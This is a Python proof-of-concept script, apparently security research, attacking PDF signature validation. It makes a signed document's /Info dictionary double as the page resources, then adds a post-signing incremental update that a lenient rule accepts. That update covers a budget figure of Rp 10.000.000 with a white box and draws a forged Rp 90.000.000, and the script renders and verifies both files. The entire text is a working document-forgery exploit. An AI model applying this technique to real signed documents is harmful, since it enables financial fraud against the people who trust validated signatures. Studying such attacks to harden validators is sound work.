# SPDX-License-Identifier: GPL-3.0-or-later
# Finding 1: trailer /Info is the same object as the page's /Resources.
# DocInfoRule accepts any dictionary change of the /Info object at LTA level.
from common import *
import sys
cert = sys.argv[1] if len(sys.argv) > 1 else None
TEXT = b"BT /F1 24 Tf 72 720 Td (Jumlah anggaran: Rp 10.000.000) Tj ET /X Do"
objs = {
 1: b"<< /Type /Catalog /Pages 2 0 R >>",
 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 6 0 R /Contents 4 0 R >>",
 4: stream(TEXT),
 5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
 6: b"<< /Producer (Office) /Title (Nota) /Font << /F1 5 0 R >> /XObject << /X 7 0 R >> >>",
 7: stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "),
}
src = write("a1-src.pdf", build(objs, b"/Info 6 0 R"))
tag = "a1" + ("-cert" + cert if cert else "")
signed = sign(src, W + "/" + tag + "-signed.pdf", *(["--certify", cert] if cert else []))
p = pdftool.Pdf(signed)
n = p.size()
evil = b"q 1 1 1 rg 60 700 500 60 re f Q BT /F1 24 Tf 0 0 1 rg 72 720 Td (Jumlah anggaran: Rp 90.000.000) Tj ET"
out = update(signed, {
  6: b"<< /Producer (Office) /Title (Nota) /ModDate (D:20261201) /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % n,
  n: stream(evil, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "),
}, b"/Info 6 0 R")
f = write(tag + "-attack.pdf", out)
verify(W + "/" + tag + "-signed.pdf"); verify(f); render(W + "/" + tag + "-signed.pdf", tag + "-signed"); render(f, tag + "-attack")
